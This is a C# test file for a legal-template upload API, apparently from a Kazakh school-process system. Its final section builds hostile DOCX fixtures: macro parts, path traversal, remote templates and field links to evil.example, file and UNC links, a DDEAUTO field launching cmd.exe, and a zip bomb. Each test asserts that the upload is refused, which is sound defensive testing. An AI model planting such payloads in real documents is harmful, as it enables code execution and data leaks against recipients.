using System.IO.Compression;
using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Qadam.Api.Persistence;
using Qadam.Api.Tests.Features.EndToEnd;
using Qadam.Documents.Rendering;
using Qadam.Documents.Templates;
using Qadam.Api.Features.Audit;

namespace Qadam.Api.Tests.Features.Templates;

/// <summary>
/// The legal department's template API: the templates seeded for each published edition are listed per
/// process version, a new edition is uploaded as a multipart form, and every kind of bad upload is a 4xx problem
/// naming its field, never a 500.
/// </summary>
public sealed class TemplatesApiTests(WorkflowsApiFactory api) : IClassFixture<WorkflowsApiFactory>
{
    private const string Templates = "/api/definitions/parent-application/versions/2/templates";

    private static MultipartFormDataContent Form(string? templateKey, string? language, byte[]? file, string fileName = "order.docx")
    {
        var form = new MultipartFormDataContent();
        if (templateKey is not null)
        {
            form.Add(new StringContent(templateKey), "templateKey");
        }

        if (language is not null)
        {
            form.Add(new StringContent(language), "language");
        }

        if (file is not null)
        {
            var content = new ByteArrayContent(file);
            content.Headers.ContentType = new MediaTypeHeaderValue("application/vnd.openxmlformats-officedocument.wordprocessingml.document");
            form.Add(content, "file", fileName);
        }

        return form;
    }

    /// <summary>
    /// The templates URL of the parent application's draft, saved from the published edition (version 2) with its templates
    /// carried over: a published version's templates do not change, its next edition's do.
    /// </summary>
    private static async Task<(string Url, int Version)> DraftAsync(HttpClient legal)
    {
        using var read = new HttpRequestMessage(HttpMethod.Get, "/api/definitions/parent-application/versions/2");
        read.Headers.Accept.ParseAdd("application/xml");
        using var published = await legal.SendAsync(read);
        using var draft = await legal.PostAsync("/api/definitions/parent-application/drafts",
            new StringContent(await published.Content.ReadAsStringAsync(), System.Text.Encoding.UTF8, "application/xml"));
        var body = await draft.Content.ReadAsStringAsync();
        Assert.True(draft.IsSuccessStatusCode, body);
        var version = JsonDocument.Parse(body).RootElement.GetProperty("version").GetInt32();
        return ($"/api/definitions/parent-application/versions/{version}/templates", version);
    }

    private static byte[] Order(string body) => TemplateMarkup.ToDocx("# ПРИКАЗ\n" + body, DocumentLanguage.Ru);

    private static async Task<JsonElement> ErrorsAsync(HttpResponseMessage response)
    {
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        return (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("errors");
    }

    [Fact]
    public async Task Each_published_edition_lists_its_seeded_templates_in_kk_and_ru()
    {
        using var auditor = await api.ClientForAsync("auditor.r1");

        var listed = await auditor.GetFromJsonAsync<JsonElement[]>(Templates);

        var keys = listed!.Select(t => (t.GetProperty("templateKey").GetString(), t.GetProperty("language").GetString())).ToHashSet();
        foreach (var key in new[] { "order-transfer", "parent-notice", "council-protocol-extract", "psychologist-conclusion", "living-conditions-act" })
        {
            Assert.Contains((key, "kk"), keys);
            Assert.Contains((key, "ru"), keys);
        }

        var order = listed!.Single(t => t.GetProperty("templateKey").GetString() == "order-transfer" && t.GetProperty("language").GetString() == "ru");
        Assert.Equal("parent-application", order.GetProperty("definitionKey").GetString());
        Assert.Equal(2, order.GetProperty("definitionVersion").GetInt32());
        Assert.Matches("^[0-9a-f]{64}$", order.GetProperty("sha256").GetString());
        Assert.True(order.GetProperty("sizeBytes").GetInt64() > 1000);
        Assert.Contains("legalBasis.text", order.GetProperty("variables").EnumerateArray().Select(v => v.GetString()));
        Assert.Contains("student.fullName", order.GetProperty("variables").EnumerateArray().Select(v => v.GetString()));
    }

    [Theory]
    [InlineData("kk", "«parent-application» процесінің 2-нұсқасы жарияланған")]
    [InlineData("ru", "Редакция 2 процесса «parent-application» опубликована")]
    public async Task A_published_versions_template_does_not_change_and_the_refusal_names_the_version(string language, string expected)
    {
        using var legal = await api.ClientForAsync("legal.r1");
        legal.DefaultRequestHeaders.AcceptLanguage.Clear();
        legal.DefaultRequestHeaders.AcceptLanguage.ParseAdd(language);
        var before = await legal.GetFromJsonAsync<JsonElement[]>(Templates);

        using var response = await legal.PostAsync(Templates, Form("order-transfer", "ru", Order("Перевести {{student.fullName}}.")));

        Assert.Equal(HttpStatusCode.Conflict, response.StatusCode);
        var problem = await response.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal(2, problem.GetProperty("version").GetInt32());
        Assert.StartsWith(expected, problem.GetProperty("errors").GetProperty("version")[0].GetString(), StringComparison.Ordinal);
        var after = await legal.GetFromJsonAsync<JsonElement[]>(Templates);
        Assert.Equal(before!.Select(t => t.GetProperty("sha256").GetString()), after!.Select(t => t.GetProperty("sha256").GetString()));
    }

    [Fact]
    public async Task The_legal_editor_uploads_a_new_edition_which_the_version_then_lists()
    {
        using var legal = await api.ClientForAsync("legal.r1");
        var (templates, draftVersion) = await DraftAsync(legal);
        var docx = Order("Перевести {{student.fullName}} (ИИН {{student.iin}}). Основание: {{legalBasis.act}}, {{legalBasis.paragraph}}.");

        using var response = await legal.PostAsync(templates, Form("order-transfer", "ru", docx));

        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        var stored = await response.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal("order-transfer", stored.GetProperty("templateKey").GetString());
        Assert.Equal("ru", stored.GetProperty("language").GetString());
        Assert.Equal("parent-application", stored.GetProperty("definitionKey").GetString());
        Assert.Equal(draftVersion, stored.GetProperty("definitionVersion").GetInt32());
        Assert.Equal(docx.LongLength, stored.GetProperty("sizeBytes").GetInt64());
        Assert.Equal(["legalBasis.act", "legalBasis.paragraph", "student.fullName", "student.iin"],
            stored.GetProperty("variables").EnumerateArray().Select(v => v.GetString()!).ToArray());
        Assert.True(stored.TryGetProperty("uploadedAt", out _));
        var listed = await legal.GetFromJsonAsync<JsonElement[]>(templates);
        Assert.Equal(stored.GetProperty("sha256").GetString(), listed!.Single(t => t.GetProperty("templateKey").GetString() == "order-transfer"
                                                                                 && t.GetProperty("language").GetString() == "ru").GetProperty("sha256").GetString());
        await using var scope = api.Services.CreateAsyncScope();
        await AuditChain.PlaceAsync(scope.ServiceProvider.GetRequiredService<QadamDbContext>(), default);
        Assert.True(await scope.ServiceProvider.GetRequiredService<QadamDbContext>().AuditEvents
            .AnyAsync(e => e.Action == "template.uploaded" && e.ProcessKey == "parent-application"));
    }

    [Fact]
    public async Task A_key_the_version_does_not_render_a_bad_language_and_a_file_that_is_not_a_docx_are_named_field_by_field()
    {
        using var legal = await api.ClientForAsync("legal.r1");
        var (templates, draftVersion) = await DraftAsync(legal);

        using var response = await legal.PostAsync(templates, Form("weather-order", "en", "not a word document"u8.ToArray(), "order.pdf"));

        Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
        var errors = await ErrorsAsync(response);
        Assert.Contains("order-transfer", errors.GetProperty("templateKey")[0].GetString(), StringComparison.Ordinal);
        Assert.Contains("kk or ru", errors.GetProperty("language")[0].GetString(), StringComparison.Ordinal);
        Assert.Contains("not a readable DOCX", errors.GetProperty("file")[0].GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_placeholder_the_version_does_not_provide_is_refused_and_nothing_is_stored()
    {
        using var legal = await api.ClientForAsync("legal.r1");
        var (templates, draftVersion) = await DraftAsync(legal);
        var before = await legal.GetFromJsonAsync<JsonElement[]>(templates);

        using var response = await legal.PostAsync(templates, Form("order-transfer", "kk", Order("{{student.fulName}} [if:refusalReasn]x[/if]")));

        Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
        var problems = (await ErrorsAsync(response)).GetProperty("file").EnumerateArray().Select(e => e.GetString()!).ToList();
        Assert.Contains(problems, p => p.Contains("Unknown variable 'student.fulName'", StringComparison.Ordinal));
        Assert.Contains(problems, p => p.Contains("Unknown variable 'refusalReasn' in a condition", StringComparison.Ordinal));
        var after = await legal.GetFromJsonAsync<JsonElement[]>(templates);
        Assert.Equal(before!.Select(t => t.GetProperty("sha256").GetString()), after!.Select(t => t.GetProperty("sha256").GetString()));
    }

    [Fact]
    public async Task An_oversized_file_is_413_an_unknown_version_404_and_a_clerk_may_not_upload()
    {
        using var legal = await api.ClientForAsync("legal.r1");
        var (templates, draftVersion) = await DraftAsync(legal);
        using var clerk = await api.ClientForAsync("clerk.s1");

        using var oversized = await legal.PostAsync(templates, Form("order-transfer", "kk", new byte[2 * 1024 * 1024 + 1]));
        using var unknown = await legal.PostAsync("/api/definitions/parent-application/versions/99/templates", Form("order-transfer", "kk", Order("x")));
        using var listUnknown = await legal.GetAsync("/api/definitions/no-such-pathway/versions/1/templates");
        using var forbidden = await clerk.PostAsync(templates, Form("order-transfer", "kk", Order("x")));
        using var missingFields = await legal.PostAsync(templates, Form(null, null, Order("x")));
        using var missingFile = await legal.PostAsync(templates, Form("order-transfer", "kk", null));

        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, oversized.StatusCode);
        Assert.True((await ErrorsAsync(oversized)).TryGetProperty("file", out _));
        Assert.Equal(HttpStatusCode.NotFound, unknown.StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, listUnknown.StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, forbidden.StatusCode);
        Assert.Equal(HttpStatusCode.UnprocessableEntity, missingFields.StatusCode);
        var errors = await ErrorsAsync(missingFields);
        Assert.All(new[] { "templateKey", "language" }, field => Assert.True(errors.TryGetProperty(field, out _), field));
        Assert.Equal(HttpStatusCode.UnprocessableEntity, missingFile.StatusCode);
        Assert.True((await ErrorsAsync(missingFile)).TryGetProperty("file", out _));
    }

    private const string R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

    /// <summary>A harmless order changed as an attacker would: the attack, the part the refusal must name, a word of its reason.</summary>
    public static TheoryData<string, string, string> HostilePackages => new()
    {
        { "macro project", "word/vbaProject.bin", "macros" },
        { "docm content type", "[Content_Types].xml", "macro-enabled" },
        { "entry outside the package", "../../evil.xml", "outside the package" },
        { "absolute entry name", "/word/evil.xml", "outside the package" },
        { "remote attached template", "word/_rels/settings.xml.rels", "attachedTemplate" },
        { "linked image", "word/_rels/document.xml.rels", "image" },
        { "hyperlink to a file", "word/_rels/document.xml.rels", "file:///C:/secret/plan.docx" },
        { "hyperlink to a UNC path", "word/_rels/document.xml.rels", @"\\fileserver\share\x.docx" },
        { "altChunk", "word/document.xml", "altChunk" },
        { "INCLUDEPICTURE field", "word/document.xml", "INCLUDEPICTURE" },
        { "INCLUDETEXT field split over runs", "word/document.xml", "INCLUDETEXT" },
        { "LINK field", "word/document.xml", "LINK" },
        { "DDEAUTO field", "word/document.xml", "DDEAUTO" },
        { "zip bomb", "word/media/zeros.bin", "inflates" },
    };

    [Theory]
    [MemberData(nameof(HostilePackages))]
    public async Task A_hostile_package_is_refused_naming_the_part_and_nothing_is_stored(string attack, string part, string reason)
    {
        using var legal = await api.ClientForAsync("legal.r1");
        var (templates, draftVersion) = await DraftAsync(legal);
        var before = await legal.GetFromJsonAsync<JsonElement[]>(templates);
        var docx = Hostile(Order("Перевести {{student.fullName}}."), attack);

        using var response = await legal.PostAsync(templates, Form("order-transfer", "ru", docx));

        Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
        var problems = (await ErrorsAsync(response)).GetProperty("file").EnumerateArray().Select(e => e.GetString()!).ToList();
        Assert.Contains(problems, p => p.StartsWith(part + ":", StringComparison.Ordinal) && p.Contains(reason, StringComparison.Ordinal));
        var after = await legal.GetFromJsonAsync<JsonElement[]>(templates);
        Assert.Equal(before!.Select(t => t.GetProperty("sha256").GetString()), after!.Select(t => t.GetProperty("sha256").GetString()));
    }

    [Fact]
    public async Task A_plain_order_with_a_web_hyperlink_is_still_accepted()
    {
        using var legal = await api.ClientForAsync("legal.r1");
        var (templates, draftVersion) = await DraftAsync(legal);
        var docx = Order("Перевести {{student.fullName}}.");
        using (var stream = new MemoryStream())
        {
            stream.Write(docx);
            using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
            {
                AddRelationship(zip, $"""<Relationship Id="rX" Type="{R}/hyperlink" Target="https://adilet.zan.kz/rus/docs/V2300033688" TargetMode="External"/>""");
            }

            docx = stream.ToArray();
        }

        using var response = await legal.PostAsync(templates, Form("order-transfer", "kk", docx));

        Assert.True(response.StatusCode == HttpStatusCode.Created, await response.Content.ReadAsStringAsync());
    }

    private static byte[] Hostile(byte[] docx, string attack)
    {
        using var stream = new MemoryStream();
        stream.Write(docx);
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            switch (attack)
            {
                case "macro project":
                    Write(zip, "word/vbaProject.bin", [0xD0, 0xCF, 0x11, 0xE0]);
                    break;
                case "docm content type":
                    Edit(zip, "[Content_Types].xml", x => x.Replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                        "application/vnd.ms-word.document.macroEnabled.main+xml", StringComparison.Ordinal));
                    break;
                case "entry outside the package":
                    Write(zip, "../../evil.xml", "<x/>"u8.ToArray());
                    break;
                case "absolute entry name":
                    Write(zip, "/word/evil.xml", "<x/>"u8.ToArray());
                    break;
                case "remote attached template":
                    Write(zip, "word/_rels/settings.xml.rels", Utf8(
                        $"""<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rT" Type="{R}/attachedTemplate" Target="http://evil.example/normal.dotm" TargetMode="External"/></Relationships>"""));
                    break;
                case "linked image":
                    AddRelationship(zip, $"""<Relationship Id="rX" Type="{R}/image" Target="http://evil.example/pixel.png" TargetMode="External"/>""");
                    break;
                case "hyperlink to a file":
                    AddRelationship(zip, $"""<Relationship Id="rX" Type="{R}/hyperlink" Target="file:///C:/secret/plan.docx" TargetMode="External"/>""");
                    break;
                case "hyperlink to a UNC path":
                    AddRelationship(zip, $"""<Relationship Id="rX" Type="{R}/hyperlink" Target="\\fileserver\share\x.docx" TargetMode="External"/>""");
                    break;
                case "altChunk":
                    AddRelationship(zip, $"""<Relationship Id="rX" Type="{R}/aFChunk" Target="chunk.html"/>""");
                    AddToBody(zip, $"""<w:altChunk xmlns:r="{R}" r:id="rX"/>""");
                    break;
                case "INCLUDEPICTURE field":
                    AddToBody(zip, """<w:p><w:fldSimple w:instr=' INCLUDEPICTURE "http://evil.example/p.png" \d '><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>""");
                    break;
                case "INCLUDETEXT field split over runs":
                    AddToBody(zip, """<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLU</w:instrText></w:r><w:r><w:instrText>DETEXT "C:\\secret.docx"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>""");
                    break;
                case "LINK field":
                    AddToBody(zip, """<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> LINK Excel.Sheet.8 "\\\\fileserver\\book.xls" "Sheet1!R1C1" \a </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>""");
                    break;
                case "DDEAUTO field":
                    AddToBody(zip, """<w:p><w:fldSimple w:instr=' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" '/></w:p>""");
                    break;
                case "zip bomb":
                    // 64 MB of zeros in about 64 KB: refused from the central directory's sizes, before anything is inflated.
                    var entry = zip.CreateEntry("word/media/zeros.bin", CompressionLevel.SmallestSize);
                    using (var output = entry.Open())
                    {
                        var zeros = new byte[1024 * 1024];
                        for (var i = 0; i < 64; i++)
                        {
                            output.Write(zeros);
                        }
                    }

                    break;
                default:
                    throw new ArgumentOutOfRangeException(nameof(attack), attack, "No such attack here.");
            }
        }

        return stream.ToArray();
    }

    private static byte[] Utf8(string text) => System.Text.Encoding.UTF8.GetBytes(text);

    private static void Write(ZipArchive zip, string name, byte[] content)
    {
        using var output = zip.CreateEntry(name).Open();
        output.Write(content);
    }

    private static void Edit(ZipArchive zip, string name, Func<string, string> change)
    {
        var entry = zip.GetEntry(name)!;
        string text;
        using (var reader = new StreamReader(entry.Open()))
        {
            text = reader.ReadToEnd();
        }

        entry.Delete();
        Write(zip, name, Utf8(change(text)));
    }

    private static void AddRelationship(ZipArchive zip, string relationship) =>
        Edit(zip, "word/_rels/document.xml.rels", x => x.Replace("</Relationships>", relationship + "</Relationships>", StringComparison.Ordinal));

    private static void AddToBody(ZipArchive zip, string xml) =>
        Edit(zip, "word/document.xml", x =>
        {
            var body = x.IndexOf("<w:body>", StringComparison.Ordinal);
            Assert.True(body >= 0, "the order's main part has no <w:body>");
            return x.Insert(body + "<w:body>".Length, xml);
        });
}
